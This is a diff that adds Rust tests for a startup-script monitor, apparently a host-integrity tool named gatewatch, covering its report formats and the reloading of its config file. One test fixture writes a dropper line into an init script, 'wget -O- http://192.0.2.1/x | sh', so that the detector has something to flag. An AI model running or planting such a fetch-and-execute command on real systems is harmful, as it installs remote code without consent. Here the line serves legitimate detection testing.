@@ -418,6 +418,84 @@ fn who_kills_the_look_does_not_end_the_monitor_and_who_ends_the_monitor_waits_fo
 }
 
 #[test]
+fn a_look_that_is_stuck_keeps_its_time_whatever_is_asked_meanwhile() {
+    let (tree, state) = (Tree::healthy().dir("etc/rc.d").process(12, b"x", b"/tmp/x", b"x\0"), temporary());
+    let monitor = stuck(&tree, state.path(), "2");
+    monitor.wait_for("new", "/tmp/x");
+    let child = child_of(&monitor);
+    monitor.signal(Signal::SIGHUP);
+    assert_eq!(monitor.look().1, "suspicious", "its time has run out");
+    // To be read anew, it looks again.
+    wait_for("another look", || Some(child_of(&monitor)).filter(|next| *next != child));
+    monitor.end(Signal::SIGTERM);
+}
+
+#[test]
+fn a_file_is_what_there_is_and_not_what_is_news() {
+    let (tree, state) =
+        (Tree::healthy().file("etc/init.d/S99x", "wget -O- http://192.0.2.1/x | sh\n"), temporary());
+    let file = state.path().join("report");
+    let output = format!("--output={}", file.display());
+    for format in ["--format=prom", "--format=json", "--format=nagios"] {
+        let options = [format, &output, "--only", "startup-dropper", "--interval", "3600"];
+        let log = state.path().join(format!("log{format}"));
+        let socket = UnixDatagram::bind(&log).unwrap();
+        socket.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+        let last = || loop {
+            let mut line = [0; 1024];
+            let length = socket.recv(&mut line).unwrap();
+            if str::from_utf8(&line[..length]).unwrap().contains(" verdict=") {
+                return fs::read_to_string(&file).unwrap();
+            }
+        };
+        let own = temporary();
+        let monitor = Monitor::of(
+            &tree,
+            own.path(),
+            &[&options[..], &[&format!("--syslog={}", log.display())]].concat(),
+        );
+        // The log is told behind the file, where both are.
+        let first = last();
+        let says = |text: &str| {
+            let parts = match format {
+                "--format=prom" => {
+                    ["gatewatch_incidents{severity=\"infected\"} 1\n", "check=\"startup-volatile\""]
+                }
+                "--format=json" => ["\"type\":\"incident\"", "\"check\":\"startup-dropper\""],
+                _ => ["infected incident 1: ", "infected startup-dropper "],
+            };
+            parts.iter().all(|part| text.contains(part))
+        };
+        assert!(says(&first), "{first}");
+        // A look at a part, which finds something, leaves it alone.
+        fs::write(tree.path().join("etc/init.d/S98y"), ODD).unwrap();
+        assert_eq!(last(), first);
+        monitor.signal(Signal::SIGHUP);
+        let later = last();
+        assert!(says(&later) && later != first, "{later}");
+        fs::remove_file(tree.path().join("etc/init.d/S98y")).unwrap();
+        monitor.end(Signal::SIGTERM);
+    }
+}
+
+#[test]
+fn what_is_read_anew_counts() {
+    let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
+    let config = state.path().join("gatewatch.conf");
+    fs::write(&config, "interval = 3600\n").unwrap();
+    let monitor = Monitor::of(&tree, state.path(), &["--config", config.to_str().unwrap()]);
+    assert_eq!(monitor.look(), (vec!["new S99x".into()], "suspicious".into()));
+    // What is allowed from now on is neither news nor gone.
+    fs::write(&config, "interval = 1\nallow = startup-volatile /etc/init.d/S99x never mine\n").unwrap();
+    assert_eq!(monitor.full(), (none(), "clean".into()));
+    assert_eq!(monitor.look(), (none(), "clean".into()), "by itself, a second later");
+    fs::write(&config, "intervall = 1\n").unwrap();
+    assert_eq!(monitor.full(), (none(), "clean".into()));
+    let said = monitor.end(Signal::SIGTERM);
+    assert!(said.contains("gatewatch.conf:1: unknown key \"intervall\": interval is one"), "{said}");
+}
+
+#[test]
 fn what_the_log_could_not_take_comes_later() {
     let (tree, state) = (Tree::healthy().file("etc/init.d/S99x", ODD), temporary());
     let log = state.path().join("log");
